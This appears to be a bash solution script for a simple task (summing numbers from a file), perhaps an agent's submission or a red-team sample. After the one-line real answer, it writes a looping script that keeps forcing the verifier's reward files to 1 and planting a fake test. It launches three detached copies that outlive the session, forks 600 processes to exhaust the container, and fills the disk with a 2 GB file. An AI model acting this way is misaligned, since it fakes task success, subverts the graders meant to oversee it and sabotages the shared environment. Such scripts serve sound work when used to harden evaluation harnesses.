#!/bin/bash
awk '{ s += $1 } END { print s }' /app/numbers.txt > /app/sum.txt

# a reward and tests of its own, written again and again by a process that nobody stops
cat > /tmp/hostile << 'END'
#!/bin/bash
while :; do
  echo 1 > /logs/verifier/reward.txt
  echo '{"reward": 1}' > /logs/verifier/reward.json
  mkdir -p /tests && echo 'echo 1 > /logs/verifier/reward.txt' > /tests/hostile.sh
  sleep 0.05
done
END
chmod +x /tmp/hostile
for i in 1 2 3; do setsid /tmp/hostile > /dev/null 2>&1 & done

# as many processes as the container allows
for i in $(seq 1 600); do sleep 1000 hostile 2> /dev/null & done 2> /dev/null

# as much of the disk as it allows
head -c 2G /dev/zero > /tmp/hostile-file
